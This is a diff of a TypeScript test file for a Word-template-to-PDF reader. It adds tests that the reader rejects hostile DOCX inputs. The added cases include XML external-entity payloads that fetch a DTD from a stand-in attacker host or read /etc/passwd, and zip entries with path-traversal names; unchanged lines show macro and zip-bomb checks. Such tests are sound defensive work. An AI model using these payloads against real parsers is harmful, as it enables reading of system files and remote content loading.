@@ -116,6 +116,9 @@ it('takes no macros, bombs, outside parts, nor what is no Word document', async 
   expect(await refusal(inside('word/_rels/settings.xml.rels', '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'))).toContain('外部链接')
   expect(await refusal(changed(good, zip => void zip.file('[Content_Types].xml', zip.file('[Content_Types].xml')!.asText().replace('wordprocessingml.document.main', 'ms-word.document.macroEnabled.main'))))).toContain('宏')
   expect(await refusal(withXml(good, '<w:document', '<!DOCTYPE a [<!ENTITY b "c">]><w:document'))).toContain('外部链接')
+  expect(await refusal(withXml(good, '<w:document', '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/x.dtd"> %b;]><w:document'))).toContain('外部链接')
+  expect(await refusal(inside('word/styles.xml', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><w:styles xmlns:w="x">&b;</w:styles>'))).toContain('外部链接')
+  for (const name of ['../../../tmp/x.xml', '/etc/x.xml', 'C:/x.xml', 'word\\..\\..\\x.xml']) expect([name, await refusal(inside(name, '<x/>'))]).toEqual([name, expect.stringContaining('无法读取')])
   expect(await refusal(inside('word/bomb.xml', 'x'.repeat(20 * 1024 * 1024)))).toContain('过大')
   expect(await refusal(withXml(good, '<w:body>', `<w:body>${'<w:sdt>'.repeat(300)}${'</w:sdt>'.repeat(300)}`))).toContain('另存为')
   expect(await refusal(Buffer.concat([good, Buffer.alloc(3 * 1024 * 1024)]))).toContain('2 MB')
@@ -140,19 +143,26 @@ it('takes what people wrote as text alone: no tag and no XML comes in by a field
   expect([Buffer.from(pdf.bytes).subarray(0, 5).toString(), pdf.lacking]).toEqual(['%PDF-', ['𪛕']])
 })
 
+/** As much of a drawn block as is looked at here. */
+interface Drawn {
+  text: { text: string }[]
+  table: { widths: number[]; body: object[][] }
+  pageBreak?: string
+}
+
 describe('the PDF', () => {
   const blocks: Block[] = [{ text: '标题{姓名}', font: '黑体', size: 22, bold: true, align: 'center' }, { text: '正文{理由}', indent: 2 }, { columns: [1, 3], rows: [['甲', '{姓名}'], ['乙', '丙']] }]
 
   it('is drawn from what stands in the document: letters, places, tables, numbers', async () => {
     const { paper, lost } = await readTemplate({ template: writeDocx(blocks), fields: kind.fields, data: { name: '示例某', reason: '一\n二' } })
-    const [title, text, table] = paper.content as any[]
+    const [title, text, table] = paper.content as unknown as [Drawn, Drawn, Drawn]
     expect(title).toMatchObject({ alignment: 'center', text: [{ text: '标题示例某', bold: true, fontSize: 22, font: 'Hei' }] })
     expect(text).toMatchObject({ alignment: 'justify', leadingIndent: 32 })
-    expect(text.text.map((run: any) => run.text).join('')).toBe('正文一\n二')
+    expect(text.text.map(run => run.text).join('')).toBe('正文一\n二')
     expect(text.text[0]).toMatchObject({ font: 'Kai', fontSize: 16 })
     expect(table.table.body).toHaveLength(2)
-    expect(table.table.body[0][1]).toMatchObject({ border: [true, true, true, true], verticalAlignment: 'middle', stack: [{ text: [{ text: '示例某', fontSize: 12 }] }] })
-    expect(table.table.widths[1] / table.table.widths[0]).toBeGreaterThan(2.5)
+    expect(table.table.body[0]![1]).toMatchObject({ border: [true, true, true, true], verticalAlignment: 'middle', stack: [{ text: [{ text: '示例某', fontSize: 12 }] }] })
+    expect(table.table.widths[1]! / table.table.widths[0]!).toBeGreaterThan(2.5)
     const kept = await readTemplate({ template: writeDocx([{ text: '{姓名}', keep: true }, { text: '日期' }, { text: '后文' }]), fields: kind.fields, data: { name: '示例某' } })
     expect(kept.paper.content).toMatchObject([{ unbreakable: true, stack: [{ text: [{ text: '示例某' }] }, { text: [{ text: '日期' }] }] }, { text: [{ text: '后文' }] }])
     expect([paper, lost]).toMatchObject([{ pageSize: { width: 595.3 }, footer: { stack: [{ text: [{ text: '— ' }, { text: '\uE000' }, { text: ' —' }] }] } }, []])
@@ -165,12 +175,12 @@ describe('the PDF', () => {
     const numbering = `<w:numbering xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1、"/><w:suff w:val="nothing"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`
     const template = changed(withXml(docx('x'), /<w:p>.*<\/w:p>/, body), zip => void zip.file('word/numbering.xml', numbering))
     const { paper, lost } = await readTemplate({ template, fields: kind.fields, data: { name: '示例某' } })
-    const content = paper.content as any[]
-    expect(content.slice(0, 2).map(one => one.text.map((run: any) => run.text).join(''))).toEqual(['一、第一', '二、第二示例某'])
-    expect(content[1].text[1]).toMatchObject({ decoration: 'underline', color: '#FF0000' })
+    const content = paper.content as unknown as Drawn[]
+    expect(content.slice(0, 2).map(one => one.text.map(run => run.text).join(''))).toEqual(['一、第一', '二、第二示例某'])
+    expect(content[1]!.text[1]).toMatchObject({ decoration: 'underline', color: '#FF0000' })
     expect(content.find(one => one.pageBreak === 'before')).toMatchObject({ text: [{ text: '次页' }, { text: '\u3000\u3000' }] })
-    expect(content.at(-1).table.body[0][0]).toMatchObject({ colSpan: 2 })
-    expect(content.at(-1).table.body[1][0]).toMatchObject({ rowSpan: 2 })
+    expect(content.at(-1)!.table.body[0]![0]).toMatchObject({ colSpan: 2 })
+    expect(content.at(-1)!.table.body[1]![0]).toMatchObject({ rowSpan: 2 })
     expect(lost.sort()).toEqual(['PICTURE', 'TABS'])
     expect((await send(officer, template)).losses!.sort()).toEqual(['PICTURE', 'TABS'])
   })
